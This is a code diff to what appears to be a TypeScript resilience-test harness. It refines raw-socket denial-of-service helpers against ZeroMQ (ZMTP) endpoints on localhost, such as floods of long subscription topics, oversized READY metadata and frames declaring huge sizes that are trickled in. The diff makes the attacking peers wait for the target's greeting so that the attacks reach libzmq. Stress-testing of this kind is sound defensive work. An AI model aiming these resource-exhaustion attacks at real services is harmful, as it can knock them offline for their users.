@@ -11,6 +11,9 @@ export class RawPeer {
   readonly closed: Promise<void>;
   readonly connected: Promise<void>;
 
+  /** Resolves once the target's 64-byte greeting has arrived (or the connection is gone). */
+  readonly greeted: Promise<void>;
+
   constructor(port: number, options: { read?: boolean } = {}) {
     this.socket = connect(port, "127.0.0.1");
     this.socket.on("error", () => {});
@@ -20,8 +23,19 @@ export class RawPeer {
     this.socket.once("close", (hadError) => {
       if (hadError) this.closedByTarget = true;
     });
-    if (options.read === false) this.socket.pause();
-    else this.socket.resume();
+    let received = 0;
+    this.greeted = new Promise((resolve) => {
+      const onData = (chunk: Buffer) => {
+        received += chunk.length;
+        if (received < 64) return;
+        this.socket.off("data", onData);
+        if (options.read === false) this.socket.pause(); // from now on, never read
+        else this.socket.resume();
+        resolve();
+      };
+      this.socket.on("data", onData);
+      this.socket.once("close", () => resolve());
+    });
   }
 
   get open(): boolean {
@@ -45,9 +59,16 @@ export class RawPeer {
     });
   }
 
-  /** Greeting and READY, as the given socket type, ZMTP 3.`minor`. */
-  handshake(socketType: string, minor = 1): Promise<boolean> {
-    return this.write(Buffer.concat([greeting(minor), ready(socketType)]));
+  /** Greeting, then (once the target's greeting is in, as libzmq expects) READY as `socketType`, ZMTP 3.`minor`. */
+  async handshake(socketType: string, minor = 1): Promise<boolean> {
+    return this.greetThen(ready(socketType), minor);
+  }
+
+  /** Our greeting, the target's greeting, then `rest`. */
+  async greetThen(rest: Buffer, minor = 1): Promise<boolean> {
+    if (!(await this.write(greeting(minor)))) return false;
+    await this.greeted;
+    return this.write(rest);
   }
 
   destroy(): void {
@@ -86,7 +107,7 @@ function result(peers: RawPeer[], bytes: number): AttackResult {
 }
 
 /** SUBSCRIBE (3.1 command, or 3.0 `01` message) to one long topic, then vanish. */
-export async function longTopicsThenDisconnect(port: number, o: { connections: number; topicLength: number; minor?: number }): Promise<AttackResult> {
+export async function longTopicsThenDisconnect(port: number, o: { connections: number; topicLength: number; minor?: number; waitForClose?: boolean }): Promise<AttackResult> {
   const peers: RawPeer[] = [];
   let bytes = 0;
   for (let i = 0; i < o.connections; i++) {
@@ -99,7 +120,7 @@ export async function longTopicsThenDisconnect(port: number, o: { connections: n
     bytes += sub.length;
     peers.push(peer);
   }
-  await sleep(200);
+  await settle(peers, o.waitForClose ? 10_000 : 200);
   for (const peer of peers) peer.destroy();
   return result(peers, bytes);
 }
@@ -140,17 +161,18 @@ export async function endlessMultipart(port: number, o: { total: number; partSiz
 }
 
 /** `connections` peers whose READY carries `size` bytes of metadata in properties of `valueSize` bytes each. */
-export async function bigReadys(port: number, o: { connections: number; size: number; valueSize: number; socketType: string }): Promise<AttackResult & { peers: RawPeer[] }> {
+export async function bigReadys(port: number, o: { connections: number; size: number; valueSize: number; socketType: string; waitForClose?: boolean }): Promise<AttackResult & { peers: RawPeer[] }> {
   const one = properties([["X", Buffer.alloc(o.valueSize, 0x76)]]);
   const props = Buffer.concat(Array.from({ length: Math.max(1, Math.floor(o.size / one.length)) }, () => one));
-  const bytes = Buffer.concat([greeting(), ready(o.socketType, props)]);
+  const readyFrame = ready(o.socketType, props);
   const peers: RawPeer[] = [];
   for (let i = 0; i < o.connections; i++) {
     const peer = new RawPeer(port);
     peers.push(peer);
-    await peer.write(bytes);
+    await peer.greetThen(readyFrame);
   }
-  await settle(peers, 1500);
+  const bytes = Buffer.concat([greeting(), readyFrame]);
+  await settle(peers, o.waitForClose ? 10_000 : 0);
   return { ...result(peers, bytes.length * o.connections), peers };
 }
 
@@ -190,18 +212,18 @@ export async function hugeDeclaredFrames(port: number, o: { connections: number;
   for (let i = 0; i < o.connections; i++) {
     const peer = new RawPeer(port);
     peers.push(peer);
-    const head = o.duringHandshake
-      ? Buffer.concat([greeting(), frame(COMMAND, Buffer.from("\x05READY"), o.declared)])
-      : Buffer.concat([greeting(), ready("PUSH"), frame(0, Buffer.alloc(0), o.declared)]);
-    await peer.write(head);
+    const rest = o.duringHandshake
+      ? frame(COMMAND, Buffer.from("\x05READY"), o.declared)
+      : Buffer.concat([ready("PUSH"), frame(0, Buffer.alloc(0), o.declared)]);
+    await peer.greetThen(rest);
   }
   const piece = Buffer.alloc(1024, 0x74);
   let bytes = 0;
   for (let sent = 0; sent < o.trickle; sent += piece.length) {
     for (const peer of peers) if (peer.open && (await peer.write(piece))) bytes += piece.length;
-    await sleep(5);
+    await sleep(2);
   }
-  await settle(peers, 500);
+  await settle(peers, 1000);
   const outcome = result(peers, bytes);
   for (const peer of peers) peer.destroy();
   return outcome;
